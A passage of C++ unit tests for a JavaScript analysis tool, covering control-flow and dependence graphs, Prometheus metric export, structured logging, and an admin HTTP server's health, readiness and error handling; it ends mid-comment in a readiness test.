  bool has_back_edge = false;
  for (const auto& n : cfg.nodes()) {
    for (const std::size_t s : n.succs) {
      if (s == test_id && n.stmt != nullptr &&
          n.stmt->kind == NodeKind::kExpressionStatement) {
        has_back_edge = true;
      }
    }
  }
  EXPECT_TRUE(has_back_edge);
}

TEST(Cfg, BreakLeavesLoop) {
  const js::Ast ast = js::parse("while (x) { if (y) { break; } a(); } b();");
  const Cfg cfg = build_cfg(ast.root);
  // The break node's control continues after the loop (not back to test).
  for (const auto& n : cfg.nodes()) {
    if (n.stmt != nullptr && n.stmt->kind == NodeKind::kBreakStatement) {
      ASSERT_EQ(n.succs.size(), 1u);
      const auto& succ = cfg.nodes()[n.succs[0]];
      EXPECT_TRUE(succ.stmt == nullptr ||
                  succ.stmt->kind != NodeKind::kWhileStatement);
    }
  }
}

TEST(Cfg, ReturnGoesToExit) {
  const js::Ast ast = js::parse("function f() { return 1; unreachable(); }");
  const auto cfgs = build_all_cfgs(ast.root);
  ASSERT_EQ(cfgs.size(), 2u);  // top level + function
  const Cfg& fn = cfgs[1];
  for (const auto& n : fn.nodes()) {
    if (n.stmt != nullptr && n.stmt->kind == NodeKind::kReturnStatement) {
      ASSERT_EQ(n.succs.size(), 1u);
      EXPECT_TRUE(fn.nodes()[n.succs[0]].is_exit);
    }
  }
}

TEST(Cfg, SwitchFallthroughAndDefault) {
  const js::Ast ast = js::parse(
      "switch (x) { case 1: a(); case 2: b(); break; default: c(); } d();");
  const Cfg cfg = build_cfg(ast.root);
  // discriminant has an edge to each case entry.
  for (const auto& n : cfg.nodes()) {
    if (n.stmt != nullptr && n.stmt->kind == NodeKind::kSwitchStatement) {
      EXPECT_GE(n.succs.size(), 3u);
    }
  }
}

TEST(Pdg, ControlDependence) {
  const js::Ast ast = js::parse("if (x) { a(); b(); } c();");
  const ScopeInfo scopes = analyze_scopes(ast.root);
  const DataFlowInfo flow = analyze_dataflow(ast.root, scopes);
  const Pdg pdg = build_pdg(ast.root, scopes, flow);
  // a() and b() are control-dependent on the if; c() is not.
  std::size_t if_node = Pdg::npos;
  for (std::size_t i = 0; i < pdg.nodes().size(); ++i) {
    if (pdg.nodes()[i].stmt->kind == NodeKind::kIfStatement) if_node = i;
  }
  ASSERT_NE(if_node, Pdg::npos);
  EXPECT_EQ(pdg.nodes()[if_node].control_succs.size(), 2u);
}

TEST(Pdg, DataDependenceAcrossStatements) {
  const js::Ast ast = js::parse("var a = f(); g(a); h(a);");
  const ScopeInfo scopes = analyze_scopes(ast.root);
  const DataFlowInfo flow = analyze_dataflow(ast.root, scopes);
  const Pdg pdg = build_pdg(ast.root, scopes, flow);
  EXPECT_EQ(pdg.data_edge_count(), 2u);
}

TEST(Pdg, IntraproceduralOnly) {
  const js::Ast ast = js::parse(
      "if (x) { function f() { a(); } }");
  const ScopeInfo scopes = analyze_scopes(ast.root);
  const DataFlowInfo flow = analyze_dataflow(ast.root, scopes);
  const Pdg pdg = build_pdg(ast.root, scopes, flow);
  // a() inside f must NOT be control-dependent on the outer if.
  for (const auto& n : pdg.nodes()) {
    if (n.stmt->kind == NodeKind::kIfStatement) {
      for (const std::size_t s : n.control_succs) {
        EXPECT_NE(pdg.nodes()[s].stmt->kind, NodeKind::kExpressionStatement);
      }
    }
  }
}

TEST(Pdg, DedupesRepeatedEdges) {
  const js::Ast ast = js::parse("var a = 1; use(a + a + a);");
  const ScopeInfo scopes = analyze_scopes(ast.root);
  const DataFlowInfo flow = analyze_dataflow(ast.root, scopes);
  const Pdg pdg = build_pdg(ast.root, scopes, flow);
  // Three identifier-level edges project to ONE statement-level edge.
  EXPECT_EQ(pdg.data_edge_count(), 1u);
}

}  // namespace
}  // namespace jsrev::analysis
