// Admin telemetry plane tests: Prometheus exposition (mapping rules, label
// escaping, cumulative le buckets, the snapshot-JSON round trip that pins
// "one exporter, two consumers" byte-identical), the structured log layer
// (levels, sink capture, per-site rate limiting), the AdminServer's HTTP
// containment contract (400/404/405/431 cost one connection, never the
// server), and the readiness story: /readyz flips to 503 strictly before a
// QUIT's kBye confirms the drain.
#include <gtest/gtest.h>

#include <atomic>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstring>
#include <map>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "obs/admin.h"
#include "obs/json.h"
#include "obs/log.h"
#include "obs/metrics.h"
#include "obs/prometheus.h"
#include "obs/trace.h"
#include "serve/frame.h"
#include "serve/serve.h"
#include "serve/server.h"

namespace jsrev {
namespace {

// ---------------------------------------------------------------------------
// In-test Prometheus text parser: independent of the production validator,
// so a bug shared by writer and validator still fails here.
// ---------------------------------------------------------------------------

struct PromSample {
  std::string name;
  std::map<std::string, std::string> labels;
  double value = 0.0;
};

struct PromDoc {
  std::map<std::string, std::string> types;  // family -> TYPE
  std::vector<PromSample> samples;

  const PromSample* find(const std::string& name,
                         const std::map<std::string, std::string>& labels = {})
      const {
    for (const PromSample& s : samples) {
      if (s.name == name && s.labels == labels) return &s;
    }
    return nullptr;
  }
};

/// Parses exposition text into *out; ASSERTs (fatal to the caller via the
/// void contract) on syntax it does not expect, so a malformed writer shows
/// up as test failures with context.
void parse_prom(const std::string& text, PromDoc* out) {
  PromDoc& doc = *out;
  std::size_t pos = 0;
  while (pos < text.size()) {
    std::size_t eol = text.find('\n', pos);
    if (eol == std::string::npos) eol = text.size();
    const std::string line = text.substr(pos, eol - pos);
    pos = eol + 1;
    if (line.empty()) continue;
    if (line.rfind("# TYPE ", 0) == 0) {
      const std::size_t sp = line.find(' ', 7);
      ASSERT_NE(sp, std::string::npos) << line;
      doc.types[line.substr(7, sp - 7)] = line.substr(sp + 1);
      continue;
    }
    if (line[0] == '#') continue;  // HELP / comment

    PromSample s;
    std::size_t i = 0;
    while (i < line.size() && line[i] != '{' && line[i] != ' ') ++i;
    s.name = line.substr(0, i);
    if (i < line.size() && line[i] == '{') {
      ++i;
      while (i < line.size() && line[i] != '}') {
        const std::size_t eq = line.find('=', i);
        ASSERT_NE(eq, std::string::npos) << line;
        const std::string key = line.substr(i, eq - i);
        ASSERT_EQ(line[eq + 1], '"') << line;
        i = eq + 2;
        std::string val;
        while (i < line.size() && line[i] != '"') {
          if (line[i] == '\\') {
            ++i;
            ASSERT_LT(i, line.size()) << line;
            val += line[i] == 'n' ? '\n' : line[i];
          } else {
            val += line[i];
          }
          ++i;
        }
        ASSERT_LT(i, line.size()) << "unterminated label value: " << line;
        ++i;
        s.labels[key] = val;
        if (i < line.size() && line[i] == ',') ++i;
      }
      ASSERT_LT(i, line.size()) << "unterminated label set: " << line;
      ++i;
    }
    ASSERT_LT(i, line.size()) << line;
    ASSERT_EQ(line[i], ' ') << line;
    const std::string rest = line.substr(i + 1);
    s.value = rest == "+Inf" ? HUGE_VAL : std::strtod(rest.c_str(), nullptr);
    doc.samples.push_back(std::move(s));
  }
}

// ---------------------------------------------------------------------------
// Exposition mapping rules.
// ---------------------------------------------------------------------------

TEST(Prometheus, NameMapping) {
  EXPECT_EQ(obs::prometheus_name("serve.requests", obs::Unit::kCount),
            "jsr_serve_requests");
  // kMillis: trailing _ms strips, _seconds appends (values scale 1e-3).
  EXPECT_EQ(obs::prometheus_name("serve.latency_ms", obs::Unit::kMillis),
            "jsr_serve_latency_seconds");
  EXPECT_EQ(obs::prometheus_name("parse.time", obs::Unit::kMillis),
            "jsr_parse_time_seconds");
  // kBytes: suffix appended only when missing.
  EXPECT_EQ(obs::prometheus_name("model.size_bytes", obs::Unit::kBytes),
            "jsr_model_size_bytes");
  EXPECT_EQ(obs::prometheus_name("model.size", obs::Unit::kBytes),
            "jsr_model_size_bytes");
  // Every illegal character sanitizes to '_'.
  EXPECT_EQ(obs::prometheus_name("a.b-c/d e", obs::Unit::kCount),
            "jsr_a_b_c_d_e");
}

TEST(Prometheus, CounterGaugeRendering) {
  obs::Registry reg;
  reg.counter("serve.requests")->add(41);
  reg.gauge("serve.queue_depth")->set(7);
  reg.counter("serve.errors", {{"kind", "frame"}})->add(3);
  const std::string text = obs::render_prometheus(reg);

  PromDoc doc;
  parse_prom(text, &doc);
  EXPECT_EQ(doc.types.at("jsr_serve_requests_total"), "counter");
  EXPECT_EQ(doc.types.at("jsr_serve_queue_depth"), "gauge");
  ASSERT_NE(doc.find("jsr_serve_requests_total"), nullptr);
  EXPECT_EQ(doc.find("jsr_serve_requests_total")->value, 41.0);
  ASSERT_NE(doc.find("jsr_serve_queue_depth"), nullptr);
  EXPECT_EQ(doc.find("jsr_serve_queue_depth")->value, 7.0);
  ASSERT_NE(doc.find("jsr_serve_errors_total", {{"kind", "frame"}}), nullptr);
  EXPECT_EQ(doc.find("jsr_serve_errors_total", {{"kind", "frame"}})->value,
            3.0);

  std::string error;
  EXPECT_TRUE(obs::validate_prometheus_text(text, &error)) << error;
}

TEST(Prometheus, LabelEscaping) {
  obs::Registry reg;
  reg.counter("evil", {{"path", "a\\b\"c\nd"}})->add(1);
  const std::string text = obs::render_prometheus(reg);
  // On the wire: backslash, quote, newline each escaped.
  EXPECT_NE(text.find("path=\"a\\\\b\\\"c\\nd\""), std::string::npos) << text;
  // And the in-test parser recovers the original value.
  PromDoc doc;
  parse_prom(text, &doc);
  ASSERT_EQ(doc.samples.size(), 1u);
  EXPECT_EQ(doc.samples[0].labels.at("path"), "a\\b\"c\nd");

  std::string error;
  EXPECT_TRUE(obs::validate_prometheus_text(text, &error)) << error;
}

TEST(Prometheus, HistogramCumulativeBucketsAndSecondsScaling) {
  obs::Registry reg;
  obs::Histogram* h = reg.histogram("serve.latency_ms", {1, 5, 25}, {},
                                    obs::kMillisOptions);
  h->observe(0.5);   // <= 1
  h->observe(3.0);   // <= 5
  h->observe(4.0);   // <= 5
  h->observe(100.0); // overflow
  const std::string text = obs::render_prometheus(reg);
  PromDoc doc;
  parse_prom(text, &doc);

  EXPECT_EQ(doc.types.at("jsr_serve_latency_seconds"), "histogram");
  // Bounds are in seconds and the counts are cumulative.
  const PromSample* b1 =
      doc.find("jsr_serve_latency_seconds_bucket", {{"le", "0.001"}});
  const PromSample* b5 =
      doc.find("jsr_serve_latency_seconds_bucket", {{"le", "0.005"}});
  const PromSample* b25 =
      doc.find("jsr_serve_latency_seconds_bucket", {{"le", "0.025"}});
  const PromSample* binf =
      doc.find("jsr_serve_latency_seconds_bucket", {{"le", "+Inf"}});
  ASSERT_NE(b1, nullptr) << text;
  ASSERT_NE(b5, nullptr);
  ASSERT_NE(b25, nullptr);
  ASSERT_NE(binf, nullptr);
  EXPECT_EQ(b1->value, 1.0);
  EXPECT_EQ(b5->value, 3.0);
  EXPECT_EQ(b25->value, 3.0);
  EXPECT_EQ(binf->value, 4.0);

  // _count == +Inf bucket; _sum scales to seconds.
  const PromSample* count = doc.find("jsr_serve_latency_seconds_count");
  const PromSample* sum = doc.find("jsr_serve_latency_seconds_sum");
  ASSERT_NE(count, nullptr);
  ASSERT_NE(sum, nullptr);
  EXPECT_EQ(count->value, 4.0);
  EXPECT_NEAR(sum->value, 0.1075, 1e-12);

  std::string error;
  EXPECT_TRUE(obs::validate_prometheus_text(text, &error)) << error;
}

TEST(Prometheus, SummaryRendersSumAndCount) {
  obs::Registry reg;
  obs::Summary* s = reg.summary("stage", {}, {});
  s->observe(2.0);
  s->observe(3.0);
  const std::string text = obs::render_prometheus(reg);
  PromDoc doc;
  parse_prom(text, &doc);
  EXPECT_EQ(doc.types.at("jsr_stage"), "summary");
  ASSERT_NE(doc.find("jsr_stage_sum"), nullptr);
  ASSERT_NE(doc.find("jsr_stage_count"), nullptr);
  EXPECT_EQ(doc.find("jsr_stage_sum")->value, 5.0);
  EXPECT_EQ(doc.find("jsr_stage_count")->value, 2.0);
}

// Family names are derived, so distinct registry names can collide after
// sanitization/suffixing: counter "x" and a gauge literally named "x_total"
// both map to family jsr_x_total, and (samples being sorted by registry
// name) the repeat appears non-adjacently. The renderer must keep the first
// owner, drop the collider, and still emit a valid exposition — never a
// second # TYPE line or duplicate series.
TEST(Prometheus, FamilyCollisionDropsColliderAndStaysValid) {
  obs::Registry reg;
  reg.counter("x")->add(1);       // family jsr_x_total
  reg.gauge("x.z")->set(9);       // sorts between "x" and "x_total"
  reg.gauge("x_total")->set(5);   // collides with the counter's family
  const std::string text = obs::render_prometheus(reg);

  std::string error;
  EXPECT_TRUE(obs::validate_prometheus_text(text, &error)) << error << text;

  PromDoc doc;
  parse_prom(text, &doc);
  EXPECT_EQ(doc.types.at("jsr_x_total"), "counter");
  ASSERT_NE(doc.find("jsr_x_total"), nullptr);
  EXPECT_EQ(doc.find("jsr_x_total")->value, 1.0);  // counter won, gauge gone
  ASSERT_NE(doc.find("jsr_x_z"), nullptr);
  // The drop is visible in-band as a comment, not silent.
  EXPECT_NE(text.find("# collision: dropped jsr_x_total"), std::string::npos)
      << text;

  // The ms→seconds rewrite collides the same way: "a_ms" (kMillis) and an
  // explicit "a_seconds" both render as family jsr_a_seconds.
  obs::Registry reg2;
  reg2.summary("a_ms", {}, obs::kMillisOptions)->observe(2.0);
  reg2.gauge("a_seconds")->set(1);
  const std::string text2 = obs::render_prometheus(reg2);
  EXPECT_TRUE(obs::validate_prometheus_text(text2, &error)) << error << text2;
}

// One exporter, two consumers: rendering straight off the registry and
// rendering the registry's JSON snapshot must be byte-identical. (Help text
// lives only in the live registry, so the fixture registers without it.)
TEST(Prometheus, SnapshotJsonRoundTripIsByteIdentical) {
  obs::Registry reg;
  reg.counter("serve.requests")->add(12);
  reg.counter("serve.errors", {{"kind", "frame"}})->add(2);
  reg.counter("serve.errors", {{"kind", "internal"}})->add(1);
  reg.gauge("queue", {}, obs::kScheduleDependent)->set(5);
  obs::Summary* sum = reg.summary("stage.wait", {}, {});
  sum->observe(1.5);
  sum->observe(2.25);
  obs::Histogram* h = reg.histogram("serve.latency_ms", {1, 10, 100}, {},
                                    obs::kMillisOptions);
  h->observe(0.25);
  h->observe(50.0);
  h->observe(5000.0);

  const std::string direct = obs::render_prometheus(reg);

  std::vector<obs::MetricSample> rows;
  std::string error;
  ASSERT_TRUE(obs::samples_from_metrics_json(reg.to_json(), &rows, &error))
      << error;
  const std::string via_json = obs::render_prometheus(rows);

  EXPECT_EQ(direct, via_json);
  EXPECT_TRUE(obs::validate_prometheus_text(direct, &error)) << error;
}

TEST(Prometheus, ValidatorCatchesStructuralLies) {
  std::string error;
  // Illegal metric name.
  EXPECT_FALSE(obs::validate_prometheus_text("9bad_name 1\n", &error));
  // Unparseable sample line.
  EXPECT_FALSE(obs::validate_prometheus_text("jsr_x{a=\"b\" 1\n", &error));
  // Histogram with non-cumulative buckets.
  EXPECT_FALSE(obs::validate_prometheus_text(
      "# TYPE jsr_h histogram\n"
      "jsr_h_bucket{le=\"1\"} 5\n"
      "jsr_h_bucket{le=\"2\"} 3\n"
      "jsr_h_bucket{le=\"+Inf\"} 5\n"
      "jsr_h_sum 1\n"
      "jsr_h_count 5\n",
      &error));
  // +Inf bucket disagreeing with _count.
  EXPECT_FALSE(obs::validate_prometheus_text(
      "# TYPE jsr_h histogram\n"
      "jsr_h_bucket{le=\"1\"} 2\n"
      "jsr_h_bucket{le=\"+Inf\"} 4\n"
      "jsr_h_sum 1\n"
      "jsr_h_count 5\n",
      &error));
  // Missing +Inf bucket.
  EXPECT_FALSE(obs::validate_prometheus_text(
      "# TYPE jsr_h histogram\n"
      "jsr_h_bucket{le=\"1\"} 2\n"
      "jsr_h_sum 1\n"
      "jsr_h_count 2\n",
      &error));
  // Duplicate series.
  EXPECT_FALSE(
      obs::validate_prometheus_text("jsr_x 1\njsr_x 2\n", &error));
  // And a well-formed document passes.
  EXPECT_TRUE(obs::validate_prometheus_text(
      "# HELP jsr_ok fine\n# TYPE jsr_ok counter\njsr_ok 3\n", &error))
      << error;
}

// ---------------------------------------------------------------------------
// Structured logging.
// ---------------------------------------------------------------------------

class LogCapture {
 public:
  LogCapture() {
    obs::set_log_sink([this](std::string_view line) {
      std::lock_guard<std::mutex> lock(mu_);
      lines_.emplace_back(line);
    });
  }
  ~LogCapture() {
    obs::set_log_sink({});
    obs::set_log_level(obs::LogLevel::kInfo);
  }
  std::vector<std::string> lines() {
    std::lock_guard<std::mutex> lock(mu_);
    return lines_;
  }

 private:
  std::mutex mu_;
  std::vector<std::string> lines_;
};

TEST(Log, RecordsAreOneJsonObjectPerLine) {
  LogCapture cap;
  obs::LogRecord(obs::LogLevel::kWarn, "serve.slow_request")
      .kv("request_id", 42u)
      .kv("latency_ms", 12.5)
      .kv("note", "a \"quoted\" string\nwith newline")
      .kv("ok", true);
  const auto lines = cap.lines();
  ASSERT_EQ(lines.size(), 1u);
  EXPECT_EQ(lines[0].find('\n'), std::string::npos);

  std::string error;
  const auto doc = obs::json_parse(lines[0], &error);
  ASSERT_NE(doc, nullptr) << error << ": " << lines[0];
  EXPECT_EQ(doc->find("level")->string, "warn");
  EXPECT_EQ(doc->find("event")->string, "serve.slow_request");
  EXPECT_EQ(doc->find("request_id")->number, 42.0);
  EXPECT_EQ(doc->find("latency_ms")->number, 12.5);
  EXPECT_EQ(doc->find("note")->string, "a \"quoted\" string\nwith newline");
  EXPECT_TRUE(doc->find("ok")->boolean);
  EXPECT_GT(doc->find("ts_ms")->number, 0.0);
}

TEST(Log, LevelFloorFilters) {
  LogCapture cap;
  obs::set_log_level(obs::LogLevel::kWarn);
  EXPECT_FALSE(obs::log_enabled(obs::LogLevel::kInfo));
  EXPECT_TRUE(obs::log_enabled(obs::LogLevel::kError));
  obs::LogRecord(obs::LogLevel::kInfo, "dropped").kv("k", 1);
  obs::LogRecord(obs::LogLevel::kError, "kept").kv("k", 2);
  const auto lines = cap.lines();
  ASSERT_EQ(lines.size(), 1u);
  EXPECT_NE(lines[0].find("\"kept\""), std::string::npos);
}

TEST(Log, LevelNamesRoundTrip) {
  for (const auto level :
       {obs::LogLevel::kDebug, obs::LogLevel::kInfo, obs::LogLevel::kWarn,
        obs::LogLevel::kError}) {
    obs::LogLevel back{};
    ASSERT_TRUE(obs::log_level_from_name(obs::log_level_name(level), &back));
    EXPECT_EQ(back, level);
  }
  obs::LogLevel out{};
  EXPECT_FALSE(obs::log_level_from_name("chatty", &out));
}

TEST(Log, RateLimitSuppressesAndReports) {
  LogCapture cap;
  // No refill to speak of within the test: burst 3, then dry.
  obs::LogRateLimit rl(/*per_sec=*/0.001, /*burst=*/3.0);
  for (int i = 0; i < 10; ++i) {
    obs::LogRecord(obs::LogLevel::kWarn, "burst", rl).kv("i", i);
  }
  auto lines = cap.lines();
  EXPECT_EQ(lines.size(), 3u);
  EXPECT_EQ(rl.total_suppressed(), 7u);
  // The next allowed record (fresh limiter state via a new bucket) carries
  // the suppressed count — emulate by a limiter with burst refilled.
  obs::LogRateLimit rl2(/*per_sec=*/1000.0, /*burst=*/1.0);
  obs::LogRecord(obs::LogLevel::kWarn, "one", rl2).kv("i", 0);
  obs::LogRecord(obs::LogLevel::kWarn, "two", rl2).kv("i", 1);
  lines = cap.lines();
  // Depending on timing the second record may refill; only assert that any
  // emitted record after suppression carries "suppressed".
  obs::LogRateLimit rl3(/*per_sec=*/0.001, /*burst=*/1.0);
  obs::LogRecord(obs::LogLevel::kWarn, "a", rl3).kv("i", 0);  // spends burst
  obs::LogRecord(obs::LogLevel::kWarn, "b", rl3).kv("i", 1);  // suppressed
  EXPECT_EQ(rl3.total_suppressed(), 1u);
}

// ---------------------------------------------------------------------------
// AdminServer HTTP behavior (no model needed).
// ---------------------------------------------------------------------------

class AdminHttpTest : public ::testing::Test {
 protected:
  void SetUp() override {
    admin_.listen_tcp(0);
    ASSERT_NE(admin_.bound_port(), 0);
    admin_.start();
    endpoint_ = "127.0.0.1:" + std::to_string(admin_.bound_port());
  }
  void TearDown() override { admin_.stop(); }

  /// Raw request bytes in, full response text out (for malformed requests
  /// admin_http_get cannot express).
  std::string raw_request(const std::string& bytes) {
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = htons(admin_.bound_port());
    const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
    EXPECT_GE(fd, 0);
    EXPECT_EQ(::connect(fd, reinterpret_cast<const sockaddr*>(&addr),
                        sizeof(addr)),
              0);
    EXPECT_EQ(::write(fd, bytes.data(), bytes.size()),
              static_cast<ssize_t>(bytes.size()));
    std::string response;
    char chunk[4096];
    ssize_t n = 0;
    while ((n = ::read(fd, chunk, sizeof(chunk))) > 0) {
      response.append(chunk, static_cast<std::size_t>(n));
    }
    ::close(fd);
    return response;
  }

  obs::AdminServer admin_;
  std::string endpoint_;
};

TEST_F(AdminHttpTest, HealthzIsAlwaysAlive) {
  std::string body, error;
  EXPECT_EQ(obs::admin_http_get(endpoint_, "/healthz", &body, &error), 200)
      << error;
  EXPECT_EQ(body, "ok\n");
}

TEST_F(AdminHttpTest, MetricsServeValidExposition) {
  // The admin server renders the process-global registry; make sure at
  // least one metric exists regardless of test order.
  obs::metrics().counter("admin_test.pings")->add(1);
  std::string body, error;
  ASSERT_EQ(obs::admin_http_get(endpoint_, "/metrics", &body, &error), 200)
      << error;
  EXPECT_TRUE(obs::validate_prometheus_text(body, &error)) << error;
  PromDoc doc;
  parse_prom(body, &doc);
  ASSERT_NE(doc.find("jsr_admin_test_pings_total"), nullptr);
}

TEST_F(AdminHttpTest, StatuszCarriesVersionUptimeAndInjectedFields) {
  admin_.set_status_fields(
      [](obs::JsonWriter& w) { w.kv("model_path", "m.jsrm"); });
  std::string body, error;
  ASSERT_EQ(obs::admin_http_get(endpoint_, "/statusz", &body, &error), 200)
      << error;
  const auto doc = obs::json_parse(body, &error);
  ASSERT_NE(doc, nullptr) << error;
  EXPECT_FALSE(doc->find("version")->string.empty());
  EXPECT_GE(doc->find("uptime_s")->number, 0.0);
  EXPECT_EQ(doc->find("model_path")->string, "m.jsrm");
}

TEST_F(AdminHttpTest, ReadyzFollowsTheReadyCheck) {
  std::atomic<bool> ready{true};
  admin_.set_ready_check([&ready] { return ready.load(); });
  std::string body;
  EXPECT_EQ(obs::admin_http_get(endpoint_, "/readyz", &body), 200);
  EXPECT_EQ(body, "ready\n");
  ready.store(false);
  EXPECT_EQ(obs::admin_http_get(endpoint_, "/readyz", &body), 503);
  EXPECT_EQ(body, "draining\n");
}

TEST_F(AdminHttpTest, TracezCapturesSpansInTheWindow) {
  std::thread worker([] {
    for (int i = 0; i < 50; ++i) {
      obs::Span span("admin test work", "test");
      std::this_thread::sleep_for(std::chrono::milliseconds(1));
    }
  });
  std::string body, error;
  ASSERT_EQ(obs::admin_http_get(endpoint_, "/tracez?ms=60", &body, &error),
            200)
      << error;
  worker.join();
  EXPECT_TRUE(obs::validate_chrome_trace_json(body, &error)) << error;
  EXPECT_NE(body.find("admin test work"), std::string::npos);
  // Capture restored the disabled default.
  EXPECT_FALSE(obs::Tracer::enabled());
}

TEST_F(AdminHttpTest, UnknownPathIs404) {
  std::string body;
  EXPECT_EQ(obs::admin_http_get(endpoint_, "/nope", &body), 404);
}

TEST_F(AdminHttpTest, NonGetIs405) {
  const std::string resp =
      raw_request("POST /metrics HTTP/1.1\r\nHost: x\r\n\r\n");
  EXPECT_EQ(resp.rfind("HTTP/1.1 405", 0), 0u) << resp;
}

TEST_F(AdminHttpTest, GarbageRequestLineIs400AndContained) {
  const std::string resp = raw_request("\x01\x02 garbage here\r\n\r\n");
  EXPECT_EQ(resp.rfind("HTTP/1.1 400", 0), 0u) << resp;
  // Containment: the server still answers the next connection.
  std::string body;
  EXPECT_EQ(obs::admin_http_get(endpoint_, "/healthz", &body), 200);
}

TEST_F(AdminHttpTest, TruncatedRequestLineIs400) {
  const std::string resp = raw_request("GET /healthz\r\n\r\n");  // no version
  EXPECT_EQ(resp.rfind("HTTP/1.1 400", 0), 0u) << resp;
}

TEST_F(AdminHttpTest, OversizedHeadIs431) {
  std::string huge = "GET /healthz HTTP/1.1\r\n";
  huge += "X-Padding: " + std::string(obs::AdminServer::kMaxRequestBytes, 'a');
  const std::string resp = raw_request(huge);
  EXPECT_EQ(resp.rfind("HTTP/1.1 431", 0), 0u) << resp;
  std::string body;
  EXPECT_EQ(obs::admin_http_get(endpoint_, "/healthz", &body), 200);
}

// A steady scrape must not accumulate one joinable (stack-retaining) thread
// per request: the accept loop reaps finished connection threads, so after
// many sequential requests the tracked set stays at in-flight size, not
// request count.
TEST_F(AdminHttpTest, SequentialScrapesDoNotAccumulateThreads) {
  constexpr int kRequests = 64;
  for (int i = 0; i < kRequests; ++i) {
    std::string body;
    ASSERT_EQ(obs::admin_http_get(endpoint_, "/healthz", &body), 200) << i;
  }
  // Each accept reaps everything already finished; only the last few
  // connections can still be in their done-flag window.
  EXPECT_LE(admin_.tracked_connections(), 8u);
}

// A peer that accepts but never answers must fail the client call after its
// deadline instead of hanging --admin-get (and check.sh) forever.
TEST(AdminClient, GetTimesOutAgainstSilentPeer) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  ASSERT_GE(fd, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(::bind(fd, reinterpret_cast<const sockaddr*>(&addr),
                   sizeof(addr)),
            0);
  ASSERT_EQ(::listen(fd, 4), 0);
  sockaddr_in bound{};
  socklen_t len = sizeof(bound);
  ASSERT_EQ(::getsockname(fd, reinterpret_cast<sockaddr*>(&bound), &len), 0);
  const std::string endpoint =
      "127.0.0.1:" + std::to_string(ntohs(bound.sin_port));

  // Never accept(): the connect lands in the backlog and no byte ever comes
  // back, which is exactly the wedged-daemon shape the timeout exists for.
  std::string body, error;
  const auto t0 = std::chrono::steady_clock::now();
  EXPECT_EQ(obs::admin_http_get(endpoint, "/healthz", &body, &error,
                                /*timeout_ms=*/300),
            -1);
  const auto elapsed = std::chrono::steady_clock::now() - t0;
  EXPECT_NE(error.find("timed out"), std::string::npos) << error;
  EXPECT_LT(elapsed, std::chrono::seconds(5));
  ::close(fd);
}

TEST(AdminUnix, ServesOverUnixSocket) {
  const std::string path = "admin_test.sock";
  obs::AdminServer admin;
  admin.listen_unix(path);
  admin.start();
  std::string body, error;
  EXPECT_EQ(obs::admin_http_get("unix:" + path, "/healthz", &body, &error),
            200)
      << error;
  admin.stop();
  std::remove(path.c_str());
}

// ---------------------------------------------------------------------------
// Readiness vs. the frame plane's drain, against a real trained model.
// ---------------------------------------------------------------------------

class AdminServeFixture : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    core::Config cfg;
    cfg.seed = 91;
    cfg.threads = 2;
    cfg.embed_epochs = 4;
    cfg.cluster_sample_per_class = 400;
    dataset::GeneratorConfig gc;
    gc.seed = 91;
    gc.benign_count = 24;
    gc.malicious_count = 24;
    core::JsRevealer trainer(cfg);
    trainer.train(dataset::generate_corpus(gc));
    model_path_ = new std::string("admin_test_model.jsrm");
    trainer.save_artifact_file(*model_path_);
    model_ = new serve::ServeModel(*model_path_);
  }

  static void TearDownTestSuite() {
    std::remove(model_path_->c_str());
    delete model_;
    delete model_path_;
  }

  static std::string* model_path_;
  static serve::ServeModel* model_;
};

std::string* AdminServeFixture::model_path_ = nullptr;
serve::ServeModel* AdminServeFixture::model_ = nullptr;

TEST_F(AdminServeFixture, BuildAndModelInfoGauges) {
  serve::register_build_info(*model_, *model_path_);
  const std::string text = obs::render_prometheus(obs::metrics());
  PromDoc doc;
  parse_prom(text, &doc);

  bool build_seen = false, model_seen = false;
  for (const PromSample& s : doc.samples) {
    if (s.name == "jsr_build_info") {
      build_seen = true;
      EXPECT_EQ(s.value, 1.0);
      EXPECT_FALSE(s.labels.at("version").empty());
    }
    if (s.name == "jsr_model_info") {
      model_seen = true;
      EXPECT_EQ(s.value, 1.0);
      EXPECT_EQ(s.labels.at("path"), *model_path_);
      EXPECT_EQ(s.labels.at("format"), "jsrm-mapped");
      EXPECT_EQ(s.labels.at("deobfuscate"),
                model_->deobfuscate() ? "on" : "off");
      EXPECT_EQ(s.labels.at("lint_dim"),
                std::to_string(model_->lint_dim()));
    }
  }
  EXPECT_TRUE(build_seen);
  EXPECT_TRUE(model_seen);

  std::string error;
  EXPECT_TRUE(obs::validate_prometheus_text(text, &error)) << error;
}

TEST_F(AdminServeFixture, ReadyzFlips503BeforeQuitsBye) {
  serve::ServeOptions opts = model_->options();
  opts.threads = 2;
  serve::Server server(*model_, opts);

  obs::AdminServer admin;
  admin.listen_tcp(0);
  admin.set_ready_check([&server] { return server.ready(); });
  admin.start();
  const std::string endpoint =
      "127.0.0.1:" + std::to_string(admin.bound_port());

  std::string body;
  ASSERT_EQ(obs::admin_http_get(endpoint, "/readyz", &body), 200);

  int sv[2];
  ASSERT_EQ(::socketpair(AF_UNIX, SOCK_STREAM, 0, sv), 0);
  std::thread serve_thread([&server, fd = sv[1]] { server.serve_fd(fd, fd); });

  // Keep the drain busy, then ask the daemon to quit.
  std::string wire;
  const std::uint32_t kWork = 24;
  for (std::uint32_t i = 1; i <= kWork; ++i) {
    serve::Frame f;
    f.type = serve::FrameType::kClassify;
    f.id = i;
    f.payload = "var x" + std::to_string(i) + " = " + std::to_string(i) + ";";
    serve::append_frame(f, &wire);
  }
  serve::Frame quit;
  quit.type = serve::FrameType::kQuit;
  quit.id = 999;
  serve::append_frame(quit, &wire);
  std::size_t off = 0;
  while (off < wire.size()) {
    const ssize_t w = ::write(sv[0], wire.data() + off, wire.size() - off);
    ASSERT_GT(w, 0);
    off += static_cast<std::size_t>(w);
  }

  // Before reading a single response byte, readiness must reach 503: the
  // flip happens when kQuit is processed, strictly before the drain that
